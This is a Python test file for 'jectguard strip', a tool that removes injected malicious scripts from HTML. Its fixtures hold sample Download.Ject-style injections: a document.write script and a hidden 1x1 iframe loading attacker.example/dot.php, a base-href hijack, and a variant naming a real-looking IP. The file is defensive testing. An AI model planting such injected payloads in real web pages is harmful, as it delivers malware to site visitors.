"""The real ``jectguard strip`` command on files, as a user runs it."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

JECTGUARD = Path(sys.executable).with_name("jectguard")
PAGE_URL = "http://shop.example/news/"
FOOTER = (
    b"<script>document.write('<script src=\"http://attacker.example/dot.php\"></scr'+'ipt>"
    b'<iframe src="http://attacker.example/dot.php" width=1 height=1></iframe>\');</script>'
)
CLEAN = (
    b"<!doctype html><html><head><title>x</title><script src=/app.js></script></head>"
    b"<body><p>hello</p><iframe src=//video.example/e></iframe></body></html>\n"
)


def injected(page: bytes = CLEAN, footer: bytes = FOOTER) -> bytes:
    return page.replace(b"</body>", footer + b"</body>")


def run(
    *args: str, stdin: bytes | None = None, cache: Path | None = None
) -> subprocess.CompletedProcess[bytes]:
    env = dict(os.environ)
    if cache is not None:
        env["JECTGUARD_CACHE_DIR"] = str(cache)
    return subprocess.run(
        [str(JECTGUARD), "strip", *args], input=stdin, capture_output=True, timeout=60, env=env
    )


def removals(res: subprocess.CompletedProcess[bytes]) -> list[dict[str, object]]:
    return [json.loads(line) for line in res.stderr.decode().splitlines() if line.startswith("{")]


@pytest.fixture
def lists(tmp_path: Path) -> Path:
    block = tmp_path / "block.txt"
    block.write_text("attacker.example\n")
    return block


def test_clean_file_comes_out_unchanged(tmp_path: Path, lists: Path) -> None:
    page = tmp_path / "page.html"
    page.write_bytes(CLEAN)
    res = run("--url", PAGE_URL, "--blocklist", str(lists), str(page), cache=tmp_path)
    assert res.returncode == 0, res.stderr
    assert res.stdout == CLEAN
    assert res.stderr == b""


def test_injected_file_stripped_with_json_findings(tmp_path: Path, lists: Path) -> None:
    page = tmp_path / "page.html"
    page.write_bytes(injected())
    res = run(
        "--url", PAGE_URL, "--blocklist", str(lists), "--no-comment", str(page), cache=tmp_path
    )
    assert res.returncode == 1, res.stderr
    assert res.stdout == CLEAN
    (found,) = removals(res)
    assert {"element", "url", "reason", "rule", "list"} <= set(found)
    assert found["element"] == "script" and found["reason"] == "inline-reference"
    assert found["rule"] == "attacker.example" and found["removed"] is True
    with_comment = run("--url", PAGE_URL, "--blocklist", str(lists), str(page), cache=tmp_path)
    assert b"<!-- jectguard: removed script (attacker.example) -->" in with_comment.stdout


def test_stdin_and_relative_urls(tmp_path: Path, lists: Path) -> None:
    body = injected(
        footer=b"<script src=//attacker.example/x.js></script>"
        b"<base href=http://attacker.example/><script src=y.js></script>"
    )
    res = run(
        "--url",
        PAGE_URL,
        "--blocklist",
        str(lists),
        "--no-comment",
        "-",
        stdin=body,
        cache=tmp_path,
    )
    assert res.returncode == 1, res.stderr
    urls = [f["url"] for f in removals(res)]
    assert "http://attacker.example/x.js" in urls


def test_configured_lists_and_shipped_signatures(tmp_path: Path) -> None:
    """No --blocklist: the configured sources (the built-in Download.Ject list)."""
    page = tmp_path / "page.html"
    page.write_bytes(injected(footer=FOOTER.replace(b"attacker.example", b"217.107.218.147")))
    res = run("--url", PAGE_URL, "--no-comment", str(page), cache=tmp_path)
    assert res.returncode == 1, res.stderr
    assert res.stdout == CLEAN
    assert len(removals(res)) == 1


def test_windows_1251_via_content_type(tmp_path: Path, lists: Path) -> None:
    text = "<html><body><p>Привет</p>{}</body></html>"
    page = tmp_path / "page.html"
    page.write_bytes(text.format(FOOTER.decode()).encode("cp1251"))
    res = run(
        "--url",
        PAGE_URL,
        "--blocklist",
        str(lists),
        "--no-comment",
        "--content-type",
        "text/html; charset=windows-1251",
        str(page),
        cache=tmp_path,
    )
    assert res.returncode == 1, res.stderr
    assert res.stdout == text.format("").encode("cp1251")


def test_after_html_policy(tmp_path: Path, lists: Path) -> None:
    page = tmp_path / "page.html"
    page.write_bytes(CLEAN + b"<script src=/late.js></script>")
    logged = run("--url", PAGE_URL, "--blocklist", str(lists), str(page), cache=tmp_path)
    assert logged.returncode == 0 and logged.stdout == page.read_bytes()
    assert removals(logged)[0]["reason"] == "after-html"
    assert removals(logged)[0]["removed"] is False
    stripped = run(
        "--url",
        PAGE_URL,
        "--blocklist",
        str(lists),
        "--after-html",
        "strip",
        "--no-comment",
        str(page),
        cache=tmp_path,
    )
    assert stripped.returncode == 1 and stripped.stdout == CLEAN


def test_bad_input(tmp_path: Path, lists: Path) -> None:
    res = run(
        "--url", PAGE_URL, "--blocklist", str(lists), str(tmp_path / "nope.html"), cache=tmp_path
    )
    assert res.returncode == 2 and b"nope.html" in res.stderr
    bad = tmp_path / "sigs.toml"
    bad.write_text('[[signature]]\nname = "x"\n')
    res = run(
        "--url",
        PAGE_URL,
        "--blocklist",
        str(lists),
        "--signatures",
        str(bad),
        "-",
        stdin=CLEAN,
        cache=tmp_path,
    )
    assert res.returncode == 2 and b"--signatures" in res.stderr
    res = run(
        "--url",
        PAGE_URL,
        "--blocklist",
        str(lists),
        "--max-bytes",
        "10",
        "-",
        stdin=CLEAN,
        cache=tmp_path,
    )
    assert res.returncode == 2 and b"max-bytes" in res.stderr
    res = run("--url", "shop.example", "--blocklist", str(lists), "-", stdin=CLEAN, cache=tmp_path)
    assert res.returncode == 2


def test_does_not_import_mitmproxy(tmp_path: Path, lists: Path) -> None:
    code = (
        "import sys; from proxy_addons.cli import main; "
        f"rc = main(['strip', '--url', {PAGE_URL!r}, '--blocklist', {str(lists)!r}, "
        f"{str(tmp_path / 'p.html')!r}]); "
        "assert 'mitmproxy' not in sys.modules, 'mitmproxy imported'; sys.exit(rc)"
    )
    (tmp_path / "p.html").write_bytes(CLEAN)
    env = {**os.environ, "JECTGUARD_CACHE_DIR": str(tmp_path)}
    res = subprocess.run([sys.executable, "-c", code], capture_output=True, timeout=60, env=env)
    assert res.returncode == 0, res.stderr


def test_signatures_file_read_as_the_proxy_reads_it(tmp_path: Path, lists: Path) -> None:
    # One reader for the addon and the command: a file the proxy refuses (over its size
    # cap, or not UTF-8) is refused here too, not stripped with differently.
    from proxy_addons.lists.signatures import MAX_SIGNATURES_FILE_BYTES

    huge = tmp_path / "huge.toml"
    huge.write_bytes(b"# padding\n" * (MAX_SIGNATURES_FILE_BYTES // 10 + 1))
    res = run(
        "--url",
        PAGE_URL,
        "--blocklist",
        str(lists),
        "--signatures",
        str(huge),
        "-",
        stdin=CLEAN,
        cache=tmp_path,
    )
    assert res.returncode == 2 and b"--signatures" in res.stderr and b"larger" in res.stderr
    latin = tmp_path / "latin.toml"
    latin.write_bytes(b"# caf\xe9\n")
    res = run(
        "--url",
        PAGE_URL,
        "--blocklist",
        str(lists),
        "--signatures",
        str(latin),
        "-",
        stdin=CLEAN,
        cache=tmp_path,
    )
    assert res.returncode == 2 and b"UTF-8" in res.stderr
